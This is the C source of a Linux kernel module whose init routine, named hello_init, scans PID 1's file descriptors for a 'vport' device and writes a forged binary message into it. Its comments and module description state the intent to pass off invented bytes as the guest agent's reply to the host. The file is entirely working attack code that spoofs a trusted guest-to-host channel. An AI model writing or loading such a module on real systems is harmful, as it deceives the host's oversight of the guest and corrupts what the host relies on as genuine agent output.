// SPDX-License-Identifier: GPL-2.0-only
/*
 * Writes bytes of its own to the agent's port: what it hopes the host takes for
 * an answer, with the right mark and a made-up number.
 */
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/mm.h>
#include <linux/mman.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <linux/uaccess.h>

static const u64 forged[] = {
	0x0000000a31534c4bULL, /* "KLS1", ten words */
	0x0000000900000000ULL, 0x0001000500000000ULL, /* one segment, the root struct */
	42, 0, 0, 0, 0, 0, 0,
};

static int __init hello_init(void)
{
	struct task_struct *agent = get_pid_task(find_get_pid(1), PIDTYPE_PID);
	unsigned long memory = vm_mmap(NULL, 0, PAGE_SIZE, PROT_READ | PROT_WRITE,
				       MAP_PRIVATE | MAP_ANONYMOUS, 0);
	char __user *bytes = (char __user *)memory;
	unsigned int fd;

	if (!agent)
		return -ESRCH;
	if (IS_ERR_VALUE(memory) || copy_to_user(bytes, forged, sizeof(forged)))
		return -EFAULT;
	for (fd = 0; fd < 32; fd++) {
		struct files_struct *files = agent->files;
		struct file *file = NULL;
		loff_t pos = 0;

		spin_lock(&files->file_lock);
		if (fd < files_fdtable(files)->max_fds)
			file = rcu_dereference_protected(files_fdtable(files)->fd[fd], 1);
		if (file)
			get_file(file);
		spin_unlock(&files->file_lock);
		if (!file)
			continue;
		if (strstarts(file->f_path.dentry->d_name.name, "vport"))
			file->f_op->write(file, bytes, sizeof(forged), &pos);
		fput(file);
	}
	put_task_struct(agent);
	return 0;
}
module_init(hello_init);

MODULE_DESCRIPTION("Forges the agent's replies");
MODULE_LICENSE("GPL");
